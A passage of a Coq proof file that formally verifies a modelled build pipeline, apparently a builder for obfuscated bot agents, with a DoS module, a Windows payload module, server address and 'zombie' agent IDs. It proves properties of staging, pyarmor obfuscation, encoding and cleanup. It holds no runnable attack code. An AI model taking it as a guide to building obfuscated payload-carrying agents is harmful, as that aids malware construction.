  (isdir (fs w') (build_dir b) = true /\ isdir (fs w') (prep_dir b) = true /\
   isdir (fs w') (obfuscate_dir b) = true /\ isdir (fs w') (compile_dir b) = true /\
   isdir (fs w') (output_dir b) = true) /\
  exists source dos,
    read_file (fs w) (source_file_path b) = Some source /\
    read_file (fs w) (dos_module_path b) = Some dos /\
    (isdir (fs w) (join (prep_dir b) SOURCE_FILE) = false ->
     ¬ join (prep_dir b) SOURCE_FILE `prefix_of` output_dir b ->
     read_file (fs w') (join (prep_dir b) SOURCE_FILE) = Some source) /\
    (isdir (fs w) (join (prep_dir b) DOS_MODULE_FILE) = false ->
     ¬ join (prep_dir b) DOS_MODULE_FILE `prefix_of` output_dir b ->
     read_file (fs w') (join (prep_dir b) DOS_MODULE_FILE) = Some dos).
Proof.
  intros E.
  destruct (post_run _ _ _ _ _ (staging_post h b w) E eq_refl)
    as ((D1 & D2 & D3 & D4 & D5) & Hrest).
  split; [|exact Hrest].
  repeat split; apply isdir_true; assumption.
Qed.

Lemma run_val {A} (m : M A) w a : (m w).1 = Val a -> m w = (Val a, (m w).2).
Proof. destruct (m w) as [r w']. simpl. intros ->. reflexivity. Qed.

Lemma staging_copies_inputs_witness :
  exists source,
    read_file (fs demo_world) (source_file_path linux_builder) = Some source /\
    read_file (fs (_prepare_build_environment linux_host linux_builder demo_world).2)
      (join (prep_dir linux_builder) SOURCE_FILE) = Some source.
Proof.
  destruct (staging_copies_inputs linux_host linux_builder demo_world _
              (run_val (_prepare_build_environment linux_host linux_builder) demo_world true
                 ltac:(vm_compute; reflexivity)))
    as (_ & source & dos & Hs & _ & Hcopy & _).
  exists source. split; [exact Hs|].
  apply Hcopy; [vm_compute; reflexivity|].
  intros [k Hk]. discriminate Hk.
Defined.



Lemma keeps_for_each_in {A} R `{!PreOrder R} (xs : list A) body :
  (forall x, x ∈ xs -> keeps R (body x)) -> keeps R (for_each xs body).
Proof.
  induction xs as [|x xs IH]; intros H; simpl.
  - apply keeps_ret. exact _.
  - apply keeps_bind; [exact _|apply H; left|intros _].
    apply IH. intros y Hy. apply H. right. exact Hy.
Qed.

Lemma persists_remove T q : T q -> keeps (persists T) (fs_update (fun f => remove f q)).
Proof.
  intros Hq. apply keeps_fs_update; [exact _|]. intros w f' H p x Hp Hx. simpl.
  apply remove_Some in H as ->. rewrite lookup_delete_ne; [exact Hx|].
  intros ->. auto.
Qed.







Lemma child_name_join d name x : child_name d (join d name, x) = Some name.
Proof.
  unfold child_name, join. simpl. rewrite rev_app_distr. simpl.
  rewrite rev_involutive. rewrite bool_decide_eq_true_2 by reflexivity. reflexivity.
Qed.

(** Every entry directly below a directory is in its listing. *)
Lemma listdir_lists (f : filesystem) (d : path) names name x :
  listdir f d = Some names -> f !! join d name = Some x -> name ∈ names.
Proof.
  unfold listdir. destruct (f !! d) as [[c|]|]; try discriminate.
  intros [= <-] Hx. apply list_elem_of_omap. exists (join d name, x).
  split; [|apply child_name_join]. apply elem_of_map_to_list. exact Hx.
Qed.

Lemma isfile_true (f : filesystem) (p : path) :
  isfile f p = true <-> exists c, f !! p = Some (File c).
Proof.
  unfold isfile. destruct (f !! p) as [[c|]|]; split; try discriminate; eauto.
  - intros [c' H]. discriminate.
  - intros [c' H]. discriminate.
Qed.

Lemma isfile_remove (f : filesystem) p f' (q : path) :
  remove f p = Some f' -> isfile f q = false -> isfile f' q = false.
Proof.
  intros H Hq. apply remove_Some in H as ->. unfold isfile in *.
  destruct (decide (q = p)) as [->|Hne].
  - rewrite lookup_delete_eq. reflexivity.
  - rewrite lookup_delete_ne by congruence. exact Hq.
Qed.

Lemma isfile_removed (f : filesystem) p f' :
  remove f p = Some f' -> isfile f' p = false.
Proof.
  intros H. apply remove_Some in H as ->. unfold isfile.
  rewrite lookup_delete_eq. reflexivity.
Qed.

Lemma remove_None (f : filesystem) p : remove f p = None -> isfile f p = false.
Proof. unfold remove, isfile. destruct (f !! p) as [[c|]|]; congruence. Qed.

Lemma isfile_rmtree (f : filesystem) d (q : path) :
  isfile f q = false -> isfile (rmtree f d) q = false.
Proof.
  unfold isfile. rewrite rmtree_lookup.
  destruct (isdir f d && bool_decide (d `prefix_of` q)); [reflexivity|auto].
Qed.

(** The loop of the cleanup over the descriptor files it found. *)
Lemma spec_files_removed (d : path) (xs : list string) : forall w,
  post (for_each xs (fun spec_file =>
          try_except (fs_update (fun f => remove f (join d spec_file)))
                     (fun _ => ret tt))) w
    (fun r w' =>
       r = Val tt /\
       (forall q, isfile (fs w) q = false -> isfile (fs w') q = false) /\
       (forall name, name ∈ xs -> isfile (fs w') (join d name) = false)).
Proof.
  induction xs as [|x xs IH]; intros w; simpl.
  - apply post_ret. split; [reflexivity|]. split; [auto|]. intros name H. inversion H.
  - apply post_bind. apply post_try_except. apply post_fs_update.
    + intros f' Hrm. cbv beta iota.
      eapply post_weaken; [apply IH|]. intros r w' (-> & Hkeep & Hgone).
      split; [reflexivity|]. simpl in Hkeep. split.
      * intros q Hq. apply Hkeep. eapply isfile_remove; eassumption.
      * intros name Hn. apply elem_of_cons in Hn as [->|Hn]; [|apply Hgone, Hn].
        apply Hkeep. eapply isfile_removed; eassumption.
    + intros Hrm. apply post_ret. cbv beta iota.
      eapply post_weaken; [apply IH|]. intros r w' (-> & Hkeep & Hgone).
      split; [reflexivity|]. split; [exact Hkeep|].
      intros name Hn. apply elem_of_cons in Hn as [->|Hn]; [|apply Hgone, Hn].
      apply Hkeep. apply remove_None. exact Hrm.
Qed.

Lemma isdir_rmtree_other (f : filesystem) d (q : path) :
  ¬ d `prefix_of` q -> isdir (rmtree f d) q = isdir f q.
Proof.
  intros H. unfold isdir. rewrite rmtree_lookup.
  rewrite bool_decide_eq_false_2 by exact H. rewrite andb_false_r. reflexivity.
Qed.

Lemma clean_up_spec_post h b w :
  debug b = false -> isdir (fs w) (base_dir b) = true ->
  post (_clean_up h b) w (fun r w' =>
    r = Val true /\
    forall name, ends_with ".spec" name = true ->
      isfile (fs w') (join (base_dir b) name) = false).
Proof.
  intros Hd Hbase. unfold _clean_up. rewrite Hd. cbn [negb].
  do 3 post_step. do 3 post_step. post_step. post_step.
  2:{ exfalso. simpl in *.
      match goal with H : listdir _ _ = None |- _ => unfold listdir in H end.
      rewrite <- (isdir_rmtree_other (fs w) (build_dir b) (base_dir b)) in Hbase
        by apply join_not_prefix_parent.
      unfold isdir in Hbase.
      destruct (rmtree (fs w) (build_dir b) !! base_dir b) as [[c|]|]; discriminate. }
  post_step.
  eapply post_weaken; [apply spec_files_removed|].
  intros r w1 (-> & Hkeep & Hgone). simpl in Hkeep.
  assert (Hall : forall name, ends_with ".spec" name = true ->
                   isfile (fs w1) (join (base_dir b) name) = false).
  { intros name Hn.
    destruct (isfile (rmtree (fs w) (build_dir b)) (join (base_dir b) name)) eqn:E.
    - apply Hgone. apply list_elem_of_filter. split; [exact Hn|].
      apply isfile_true in E as [c E].
      eapply listdir_lists; [eassumption|exact E].
    - apply Hkeep. exact E. }
  post_steps; simpl; (split; [reflexivity|]); intros name Hn.
  - apply isfile_rmtree, Hall, Hn.
  - apply Hall, Hn.
Qed.

(** X7.  Without the debug flag, cleanup run in a working directory leaves
    no regular file named [*.spec] directly in it, whether the build wrote
    the file or not, and returns [True]. *)
Theorem cleanup_removes_spec_files h b w r w' :
  debug b = false -> isdir (fs w) (base_dir b) = true ->
  _clean_up h b w = (r, w') ->
  r = Val true /\
  forall name, ends_with ".spec" name = true ->
    isfile (fs w') (join (base_dir b) name) = false.
Proof.
  intros Hd Hbase E. exact (post_run _ _ _ _ _ (clean_up_spec_post h b w Hd Hbase) E).
Qed.

Lemma cleanup_removes_spec_files_witness :
  isfile (fs world_with_spec) own_spec = true /\
  isfile (fs (_clean_up linux_host linux_builder world_with_spec).2) own_spec = false.
Proof.
  split; [reflexivity|].
  apply (proj2 (cleanup_removes_spec_files linux_host linux_builder world_with_spec _ _
                  eq_refl eq_refl
                  (run_pair (_clean_up linux_host linux_builder) world_with_spec))
           "mine.spec").
  reflexivity.
Defined.

Lemma isfile_makedirs (f : filesystem) p f' (q : path) :
  makedirs f p = Some f' -> isfile f q = false -> isfile f' q = false.
Proof.
  intros H Hq. destruct (isfile f' q) eqn:E; [|reflexivity].
  apply isfile_true in E as [c E].
  assert (Hr : read_file f q = Some c).
  { eapply makedirs_file_back; [exact H|]. apply read_file_Some. exact E. }
  apply read_file_Some in Hr. assert (isfile f q = true) by (apply isfile_true; eauto).
  congruence.
Qed.

Lemma isfile_copy2 (f : filesystem) src dst f' (q : path) :
  copy2 f src dst = Some f' -> q ≠ dst -> q ≠ join dst (basename src) ->
  isfile f q = false -> isfile f' q = false.
Proof.
  intros H H1 H2 Hq. unfold isfile in *.
  rewrite (copy2_other _ _ _ _ q H H1 H2). exact Hq.
Qed.

Ltac no_file_chain :=
  simpl in *;
  repeat first
    [ assumption
    | eapply isfile_makedirs; [eassumption|]
    | eapply isfile_copy2;
      [ eassumption
      | solve [unfold payload_module; intros E; apply join_inj in E; discriminate]
      | solve [apply join_ne_deeper]
      | ] ].

Lemma staging_without_payload h b w :
  has_payload b w = false ->
  isfile (fs w) (payload_module b) = false ->
  post (_prepare_build_environment h b) w (fun _ w' =>
    isfile (fs w') (payload_module b) = false).
Proof.
  intros Hp Hq. unfold _prepare_build_environment. do 3 post_step.
  do 9 (post_step; post_step; [|solve [post_steps; no_file_chain]]).
  do 2 post_step.
  repeat change (has_payload b (set_fs ?f ?w0)) with (has_payload b w0).
  change (has_payload b (emit ?e w)) with (has_payload b w).
  rewrite Hp. post_steps. no_file_chain.
Qed.

(** X8.  An empty payload file on windows passes the dependency check and
    leaves the empty text as payload data, which counts as no payload:
    staging then writes no payload module.  The metadata record, which
    goes by the payload path, still has a payload section, of size 0,
    unless it is the minimal record. *)
Theorem empty_payload_is_ignored h b w p :
  payload_path b = Some p -> platform b = "windows" ->
  other_checks_pass h b w = true ->
  read_file (fs w) p = Some EmptyString ->
  exists w1,
    _check_dependencies h b w = (Val true, w1) /\
    payload_data w1 = Some EmptyString /\
    has_payload b w1 = false /\
    (isfile (fs w) (payload_module b) = false ->
     isfile (fs (_prepare_build_environment h b w1).2) (payload_module b) = false) /\
    (forall w5 m w6,
       _generate_metadata h b w5 = (Val m, w6) ->
       read_file (fs w5) p = Some EmptyString ->
       m = minimal_metadata b \/ m !! "payload" = Some (payload_section b p 0)).
Proof.
  intros Hp Hw Hc Hr.
  pose proof (_check_dependencies_loads_payload h b w p _ Hp Hw Hc Hr) as H1.
  pose proof (_check_dependencies_reads_only h b w) as H2.
  unfold post in H1, H2. destruct (_check_dependencies h b w) as [r w1] eqn:E.
  simpl in H1, H2. destruct H1 as [-> Hdata]. exists w1.
  split; [reflexivity|]. split; [exact Hdata|].
  assert (Hnone : has_payload b w1 = false).
  { unfold has_payload. rewrite Hdata. reflexivity. }
  split; [exact Hnone|]. split.
  - intros Hq. unfold same_fs in H2.
    apply (staging_without_payload h b w1 Hnone). rewrite H2. exact Hq.
  - intros w5 m w6 E6 Hr5.
    pose proof (post_run _ _ _ _ _ (_generate_metadata_spec h b w5) E6) as (m' & [= <-] & H).
    destruct H as [[-> _] | [[zid H] _]]; [left; reflexivity|right].
    rewrite Hp in H. apply String.eqb_eq in Hw. rewrite Hw in H.
    destruct H as (size & Hsize & ->). rewrite lookup_insert_eq.
    apply read_file_Some in Hr5. unfold getsize in Hsize.
    assert (size = 0) as ->; [|reflexivity].
    destruct (fs w5 !! p) as [[c|]|]; try discriminate.
    injection Hr5 as ->. injection Hsize as <-. reflexivity.
Qed.

Lemma empty_payload_is_ignored_witness :
  has_payload windows_builder_ok
    (_check_dependencies windows_host windows_builder_ok empty_payload_world).2 = false.
Proof.
  destruct (empty_payload_is_ignored windows_host windows_builder_ok empty_payload_world
              payload_beside_sources eq_refl eq_refl eq_refl eq_refl)
    as (w1 & E & _ & Hn & _).
  rewrite E. exact Hn.
Defined.

Lemma exists_makedirs (f : filesystem) p f' (q : path) :
  makedirs f p = Some f' -> exists_ f q = true -> exists_ f' q = true.
Proof.
  intros H Hq. apply exists_true in Hq as [x Hx]. apply exists_true.
  exists x. eapply makedirs_keeps; eassumption.
Qed.

Lemma exists_write (f : filesystem) p c f' (q : path) :
  write_file f p c = Some f' -> exists_ f q = true -> exists_ f' q = true.
Proof.
  intros H Hq. destruct (decide (q = p)) as [->|Hne].
  - apply exists_true. exists (File c). eapply write_file_lookup; eassumption.
  - apply exists_true in Hq as [x Hx]. apply exists_true. exists x.
    etransitivity; [eapply write_file_other; eassumption|exact Hx].
Qed.

Lemma exists_written (f : filesystem) p c f' :
  write_file f p c = Some f' -> exists_ f' p = true.
Proof.
  intros H. apply exists_true. exists (File c). eapply write_file_lookup; eassumption.
Qed.

Lemma exists_copy2 (f : filesystem) src dst f' (q : path) :
  copy2 f src dst = Some f' -> exists_ f q = true -> exists_ f' q = true.
Proof.
  intros H Hq. apply copy2_Some in H as (c & _ & _ & Hw). eapply exists_write; eassumption.
Qed.

Ltac exists_chain :=
  simpl in *;
  repeat first
    [ assumption
    | eapply copy2_exists; eassumption
    | eapply exists_written; eassumption
    | eapply exists_copy2; [eassumption|]
    | eapply exists_write; [eassumption|]
    | eapply exists_makedirs; [eassumption|] ].

Ltac fails_here := solve [post_steps; first [discriminate | intros; congruence]].

Ltac fold_has_payload b :=
  repeat match goal with
         | H : context [has_payload b (set_fs ?f ?w0)] |- _ =>
             change (has_payload b (set_fs f w0)) with (has_payload b w0) in H
         | H : context [has_payload b (emit ?e ?w0)] |- _ =>
             change (has_payload b (emit e w0)) with (has_payload b w0) in H
         end.

Ltac required_cases Hp :=
  unfold required_files in Hp;
  repeat match goal with
         | H : has_payload _ _ = _ |- _ => rewrite H in Hp
         end;
  rewrite ?app_nil_r in Hp;
  repeat (apply elem_of_cons in Hp as [->|Hp]); try solve [inversion Hp].

Lemma _manual_obfuscation_provides h b w :
  post (_manual_obfuscation h b) w (fun r w' =>
    r = Val true -> forall p, p ∈ required_files b w -> exists_ (fs w') p = true).
Proof.
  unfold _manual_obfuscation. do 3 post_step.
  do 4 (post_step; post_step; [|fails_here]).
  post_steps; intros; try discriminate; fold_has_payload b.
  all: match goal with Hp : _ ∈ required_files _ _ |- _ => required_cases Hp end.
  all: exists_chain.
Qed.

Lemma _try_pyarmor_obfuscation_provides h b w :
  post (_try_pyarmor_obfuscation h b) w (fun r w' =>
    r = Val true -> forall p, p ∈ required_files b w -> exists_ (fs w') p = true).
Proof.
  unfold _try_pyarmor_obfuscation.
  repeat (post_step; try fails_here).
  all: eapply post_weaken;
    [ apply (post_for_each _ _ (fun w1 =>
               exists_ (fs w1) (obfuscated_file b) = true /\
               has_payload b w1 = has_payload b w))
    | ].
  all: try solve [ split; [exists_chain|reflexivity] ].
  all: try solve [ intros file w1 [HA Hp]; post_steps; simpl; (split; [|exact Hp]);
                   exists_chain ].
  all: intros r w1 [HA Hpay]; destruct r as [[]|e]; [|fails_here].
  all: repeat (post_step; try fails_here).
  all: intros _ p Hp; fold_has_payload b.
  all: try rewrite Hpay in *.
  all: required_cases Hp.
  all: try congruence.
  all: exists_chain.
Qed.

Lemma has_payload_same b w w' : same_attributes w w' -> has_payload b w' = has_payload b w.
Proof. intros [_ H]. unfold has_payload. rewrite H. reflexivity. Qed.

Lemma required_files_same b w w' :
  has_payload b w' = has_payload b w -> required_files b w' = required_files b w.
Proof. unfold required_files. intros ->. reflexivity. Qed.

(** X9.  An obfuscation stage that returns success leaves in the
    obfuscation directory every file the compilation stage starts by
    requiring: the obfuscated script, the companion module and, with
    payload data on windows, the payload module. *)
Theorem obfuscation_provides_required_files h b w r w' :
  _obfuscate_code h b w = (r, w') ->
  r = Val true ->
  forall p, p ∈ required_files b w -> exists_ (fs w') p = true.
Proof.
  intros E.
  assert (Hm : forall w1, has_payload b w1 = has_payload b w ->
            post (_manual_obfuscation h b) w1 (fun r w' =>
              r = Val true ->
              forall p, p ∈ required_files b w -> exists_ (fs w') p = true)).
  { intros w1 H1. rewrite <- (required_files_same b w w1 H1).
    apply _manual_obfuscation_provides. }
  assert (H : post (_obfuscate_code h b) w (fun r w' =>
            r = Val true -> forall p, p ∈ required_files b w -> exists_ (fs w') p = true)).
  { unfold _obfuscate_code. do 4 post_step.
    eapply post_weaken;
      [exact (post_conj _ _ _ _ (_try_pyarmor_obfuscation_provides h b _)
                (attributes__try_pyarmor_obfuscation h b _))|].
    intros [[|]|e] w1 [H Hs]; cbv beta iota; apply has_payload_same with (b := b) in Hs.
    - apply post_ret. exact H.
    - do 2 post_step.
      eapply post_weaken;
        [apply post_conj; [apply Hm; exact Hs|apply attributes__manual_obfuscation]|].
      intros [a|e] w2 [H2 Hs2]; [exact H2|].
      apply has_payload_same with (b := b) in Hs2.
      do 4 post_step. apply Hm.
      etransitivity; [exact Hs2|exact Hs].
    - do 4 post_step. apply Hm. exact Hs. }
  exact (post_run _ _ _ _ _ H E).
Qed.

Lemma obfuscation_provides_required_files_witness :
  exists_ (fs (_obfuscate_code linux_host linux_builder customized_world).2)
    (obfuscated_file linux_builder) = true.
Proof.
  apply (obfuscation_provides_required_files linux_host linux_builder customized_world
           _ _ (run_val (_obfuscate_code linux_host linux_builder) customized_world true
                  ltac:(vm_compute; reflexivity)) eq_refl).
  left.
Defined.







Lemma full_metadata_summary h b zid :
  read_keys (full_metadata h b zid) summary_keys
  = Val [JStr (platform b); JStr (build_id b); JStr zid;
         JStr (executable_name b); JStr (server_url b)].
Proof.
  unfold summary_keys, read_keys, subscript, full_metadata.
  unfold final_executable. rewrite basename_join.
  repeat (rewrite ?lookup_insert_eq; rewrite ?lookup_insert_ne by discriminate).
  reflexivity.
Qed.

Lemma read_keys_insert_payload (m : metadata) v :
  read_keys (<["payload" := v]> m) summary_keys = read_keys m summary_keys.
Proof.
  unfold summary_keys, read_keys, subscript.
  rewrite !lookup_insert_ne by discriminate. reflexivity.
Qed.

(** X11.  On a full metadata record the entry point reads every key it
    prints: the summary is the platform, the build identifier, the agent
    identifier, the executable name and the server address, then the four
    values of the payload section when the record has one, and the
    executable name again; on a failed build the exit status is 1. *)
Theorem summary_of_full_record h b w m :
  full_record h b w m ->
  (exists zid payload_values,
     main_report (true, Some m)
       = Val (inl ([JStr (platform b); JStr (build_id b); JStr zid;
                    JStr (executable_name b); JStr (server_url b)]
                   ++ payload_values ++ [JStr (executable_name b)])) /\
     (m !! "payload" = None -> payload_values = []) /\
     (forall p size, m !! "payload" = Some (payload_section b p size) ->
        payload_values = [JStr (basename p); JInt (Z.of_nat size);
                          JStr (payload_technique b); JInt (payload_delay b)])) /\
  (forall r, main_report (false, r) = Val (inr 1%Z)).
Proof.
  intros (zid & H). split; [|reflexivity].
  assert (Hexe : forall m0 : metadata,
            m0 !! "executable" = Some (JStr (executable_name b)) ->
            subscript m0 "executable" = Val (JStr (executable_name b))).
  { intros m0 E. unfold subscript. rewrite E. reflexivity. }
  assert (Hfull : full_metadata h b zid !! "executable" = Some (JStr (executable_name b))).
  { unfold full_metadata, final_executable. rewrite basename_join.
    rewrite !lookup_insert_ne by discriminate. apply lookup_insert_eq. }
  assert (Plain : m = full_metadata h b zid ->
            exists payload_values,
              main_report (true, Some m)
              = Val (inl ([JStr (platform b); JStr (build_id b); JStr zid;
                           JStr (executable_name b); JStr (server_url b)]
                          ++ payload_values ++ [JStr (executable_name b)])) /\
              (m !! "payload" = None -> payload_values = []) /\
              (forall p size, m !! "payload" = Some (payload_section b p size) ->
                 payload_values = [JStr (basename p); JInt (Z.of_nat size);
                                   JStr (payload_technique b); JInt (payload_delay b)])).
  { intros ->. exists []. unfold main_report.
    rewrite full_metadata_summary, full_metadata_no_payload, (Hexe _ Hfull).
    split; [reflexivity|]. split; [reflexivity|].
    intros p size Hp.
    pose proof (eq_trans (eq_sym (full_metadata_no_payload h b zid)) Hp). discriminate. }
  exists zid.
  destruct (payload_path b) as [p|]; [|exact (Plain H)].
  destruct (String.eqb (platform b) "windows"); [|exact (Plain H)].
  destruct H as (size & _ & ->).
  exists [JStr (basename p); JInt (Z.of_nat size);
          JStr (payload_technique b); JInt (payload_delay b)].
  unfold main_report.
  rewrite read_keys_insert_payload, full_metadata_summary, lookup_insert_eq.
  rewrite (Hexe (<["payload" := payload_section b p size]> (full_metadata h b zid))).
  2:{ rewrite lookup_insert_ne by discriminate. exact Hfull. }
  split; [reflexivity|]. split; [discriminate|].
  intros p' size' [= Hb Hs]. apply Nat2Z.inj in Hs. rewrite Hb, Hs. reflexivity.
Qed.

Lemma summary_of_full_record_witness :
  exists values,
    main_report (true, Some (full_metadata linux_host linux_builder "zombie_0a1b2c3d"))
      = Val (inl values).
Proof.
  destruct (proj1 (summary_of_full_record linux_host linux_builder demo_world
                     (full_metadata linux_host linux_builder "zombie_0a1b2c3d")
                     (ex_intro _ "zombie_0a1b2c3d" eq_refl)))
    as (zid & payload_values & E & _).
  rewrite E. eauto.
Defined.

Lemma alphabet_all (P : ascii -> bool) alphabet k n :
  forallb (fun i => P (char_at alphabet i)) (seq 0 k) = true ->
  (0 < k)%nat ->
  P (char_at alphabet (N.to_nat (n mod N.of_nat k))) = true.
Proof.
  intros T Hk. rewrite forallb_forall in T. apply T. apply in_seq.
  assert (H : (n mod N.of_nat k < N.of_nat k)%N) by (apply N.mod_lt; lia).
  generalize dependent (n mod N.of_nat k)%N. intros m Hm. lia.
Qed.

Lemma b85c_literal_safe n : literal_safe (b85c n) = true.
Proof.
  unfold b85c. apply (alphabet_all literal_safe b85_alphabet 85 n); [|lia].
  vm_compute. reflexivity.
Qed.

Lemma b64c_literal_safe n : literal_safe (b64c n) = true.
Proof.
  unfold b64c. apply (alphabet_all literal_safe b64_alphabet 64 n); [|lia].
  vm_compute. reflexivity.
Qed.

Lemma all_chars_append P s t : all_chars P (s +:+ t) = all_chars P s && all_chars P t.
Proof.
  induction s as [|c s IH]; [reflexivity|]. rewrite append_cons. simpl.
  rewrite IH, andb_assoc. reflexivity.
Qed.

(** X12.  The texts the builder puts between double quotes in the Python
    source it generates, the base85 blob of the wrapper script and the
    base64 payload data, hold no double quote, no backslash and no line
    break, whatever was encoded; the wrapper line is therefore read back
    whole. *)
Theorem encoded_text_is_literal_safe s :
  all_chars literal_safe (b85encode s) = true /\
  all_chars literal_safe (b64encode s) = true /\
  (forall generated, no_newline generated = true ->
     embedded_blob (wrapper_text generated (b85encode s)) = Some (b85encode s)).
Proof.
  split; [|split].
  - induction s as [|a|a b|a b c|a b c d rest IH] using string_ind4;
      cbn [b85encode b85_group take string_of_list all_chars];
      rewrite ?append_cons, ?append_nil_l; cbn [all_chars];
      rewrite ?b85c_literal_safe, ?IH; reflexivity.
  - induction s as [|a|a b|a b c rest IH] using string_ind3;
      cbn [b64encode all_chars]; rewrite ?b64c_literal_safe, ?IH; reflexivity.
  - intros generated Hg. apply embedded_blob_wrapper; [exact Hg|].
    apply b85encode_no_newline.
Qed.

Lemma dirs_stay__modify_source_code D h b : keeps (dirs_stay D) (_modify_source_code h b).
Proof. unfold _modify_source_code. dirs_stay_with fail. Qed.

(** X13.  A build that fails after staging has succeeded never cleans up:
    with confined tools, the build root and the preparation directory are
    still there when [build()] returns [(False, None)]. *)
Theorem failed_build_leaves_build_root h b w w1 w2 w' :
  tools_confined h ->
  _check_dependencies h b (announced w) = (Val true, w1) ->
  _prepare_build_environment h b w1 = (Val true, w2) ->
  build h b w = (Val (false, None), w') ->
  isdir (fs w') (build_dir b) = true /\ isdir (fs w') (prep_dir b) = true.
Proof.
  intros Hc E1 E2.
  destruct (post_run _ _ _ _ _ (staging_post h b w1) E2 eq_refl)
    as ((D1 & D2 & _) & _).
  set (D := fun p : path => p = build_dir b \/ p = prep_dir b).
  assert (HD1 : forall p, D p -> ¬ below (pyarmor_work_dir b) p).
  { intros p [->| ->].
    - unfold pyarmor_work_dir. apply not_below_parent.
    - unfold pyarmor_work_dir, prep_dir. apply not_below_sibling. discriminate. }
  assert (HD2 : forall p, D p -> ¬ compile_dir b `prefix_of` p).
  { intros p [->| ->].
    - unfold compile_dir. apply join_not_prefix_parent.
    - unfold compile_dir, prep_dir. apply join_not_prefix_sibling. discriminate. }
  assert (Fin : forall w0 : world,
            dirs_stay D w2 w0 ->
            isdir (fs w0) (build_dir b) = true /\ isdir (fs w0) (prep_dir b) = true).
  { intros w0 Hs. split; apply isdir_true, Hs; try assumption; [left|right]; reflexivity. }
  unfold build, bind, log. unfold announced in E1. rewrite E1. simpl. rewrite E2. simpl.
  destruct (_modify_source_code h b w2) as [[[|]|e3] w3] eqn:E3; simpl;
    try discriminate.
  2:{ intros [= <-]. simpl. apply Fin.
      exact (keeps_run _ _ _ _ _ (dirs_stay__modify_source_code D h b) E3). }
  destruct (_obfuscate_code h b w3) as [[[|]|e4] w4] eqn:E4; simpl; try discriminate.
  2:{ intros [= <-]. simpl. apply Fin.
      etransitivity; [exact (keeps_run _ _ _ _ _ (dirs_stay__modify_source_code D h b) E3)|].
      exact (keeps_run _ _ _ _ _ (dirs_stay__obfuscate_code D h b Hc HD1) E4). }
  destruct (_compile_executable h b w4) as [[[|]|e5] w5] eqn:E5; simpl; try discriminate.
  2:{ intros [= <-]. simpl. apply Fin.
      etransitivity; [exact (keeps_run _ _ _ _ _ (dirs_stay__modify_source_code D h b) E3)|].
      etransitivity; [exact (keeps_run _ _ _ _ _ (dirs_stay__obfuscate_code D h b Hc HD1) E4)|].
      exact (keeps_run _ _ _ _ _ (dirs_stay__compile_executable D h b Hc HD2) E5). }
  destruct (_generate_metadata h b w5) as [[m'|e6] w6] eqn:E6; simpl; try discriminate.
  destruct (_clean_up_true h b w6) as [w7 E7]. rewrite E7. simpl. discriminate.
Qed.

Lemma failed_build_leaves_build_root_witness :
  (build current_windows_host windows_builder_plain demo_world).1 = Val (false, None) /\
  isdir (fs (build current_windows_host windows_builder_plain demo_world).2)
    (build_dir windows_builder_plain) = true.
Proof.
  split; [vm_compute; reflexivity|].
  apply (proj1 (failed_build_leaves_build_root current_windows_host windows_builder_plain
                  demo_world _ _ _ (demo_tools_confined _ _)
                  (run_val (_check_dependencies current_windows_host windows_builder_plain)
                     (announced demo_world) true ltac:(vm_compute; reflexivity))
                  (run_val (_prepare_build_environment current_windows_host
                              windows_builder_plain)
                     (_check_dependencies current_windows_host windows_builder_plain
                        (announced demo_world)).2 true ltac:(vm_compute; reflexivity))
                  (run_val (build current_windows_host windows_builder_plain) demo_world
                     (false, None) ltac:(vm_compute; reflexivity)))).
Defined.

Lemma post_bind_inv {A B} R (m : M A) (k : A -> M B) w (Q : result B -> world -> Prop) :
  keeps R m ->
  (forall r w1, R w w1 ->
     match r with Val a => post (k a) w1 Q | Raise e => Q (Raise e) w1 end) ->
  post (bind m k) w Q.
Proof.
  intros Hm Hk. apply post_bind. eapply post_weaken; [apply Hm|].
  intros r w1 HR. exact (Hk r w1 HR).
Qed.

Lemma absent_stays_makedirs (q p : path) :
  ¬ q `prefix_of` p -> keeps (absent_stays q) (fs_update (fun f => makedirs f p)).
Proof.
  intros Hq. apply keeps_fs_update; [exact _|]. intros w f' H Hn. simpl.
  destruct (f' !! q) as [x|] eqn:E; [|reflexivity].
  destruct (makedirs_new _ _ _ _ H Hn) as [_ Hp]; [exists x; exact E|]. contradiction.
Qed.

Lemma absent_stays_write q p c :
  q ≠ p -> keeps (absent_stays q) (fs_update (fun f => write_file f p c)).
Proof.
  intros Hq. apply keeps_fs_update; [exact _|]. intros w f' H Hn. simpl.
  etransitivity; [exact (write_file_other _ _ _ _ q H Hq)|exact Hn].
Qed.

Lemma absent_stays_copy2 q src dst :
  ¬ dst `prefix_of` q -> keeps (absent_stays q) (fs_update (fun f => copy2 f src dst)).
Proof.
  intros Hq. apply keeps_fs_update; [exact _|]. intros w f' H Hn. simpl.
  etransitivity; [|exact Hn]. eapply copy2_other; [exact H| |].
  - intros ->. apply Hq. reflexivity.
  - intros ->. apply Hq. apply prefix_join.
Qed.

Lemma absent_stays_run_pyinstaller q h args cwd :
  tools_confined h -> ¬ below cwd q ->
  keeps (absent_stays q) (run_pyinstaller h args cwd).
Proof.
  intros [_ Hc] Hq. apply keeps_step. intros w Hn. unfold run_pyinstaller.
  specialize (Hc args cwd (fs w) q Hq).
  destruct (pyinstaller_run h args cwd (fs w)) as [[rc|e] f]; simpl in *;
    (etransitivity; [exact Hc|exact Hn]).
Qed.

Lemma prefix_join_not (d q : path) name : ¬ d `prefix_of` q -> ¬ join d name `prefix_of` q.
Proof. intros H Hp. apply H. etransitivity; [apply prefix_join|exact Hp]. Qed.

Ltac absent_kept Hc Hout Hin :=
  repeat first
    [ progress keeps_structure
    | apply absent_stays_rmtree
    | apply absent_stays_makedirs; exact Hin
    | apply absent_stays_write; intros E; apply Hout; rewrite E; apply prefix_join
    | apply absent_stays_copy2; apply prefix_join_not; exact Hout
    | apply absent_stays_run_pyinstaller;
      [exact Hc|intros [Hb _]; exact (Hout Hb)]
    | apply keeps_check_required; [exact _|intros ? ?]
    | apply absent_stays_quiet; intros ?; reflexivity ].

Lemma absent__generate_spec_file q h b : keeps (absent_stays q) (_generate_spec_file h b).
Proof. unfold _generate_spec_file. absent_kept I I I. Qed.

Lemma compile_failure_post h b w :
  tools_confined h ->
  ¬ compile_dir b `prefix_of` final_executable b ->
  ¬ final_executable b `prefix_of` compile_dir b ->
  fs w !! final_executable b = None ->
  post (_compile_executable h b) w (fun r w' =>
    r ≠ Val true -> fs w' !! final_executable b = None).
Proof.
  intros Hc Hout Hin Ha. unfold _compile_executable.
  set (q := final_executable b) in *.
  assert (Hfail : forall w1 : world, fs w1 !! q = None ->
            post (log Error "Compilation failed";; ret false) w1
              (fun r w' => r ≠ Val true -> fs w' !! q = None)).
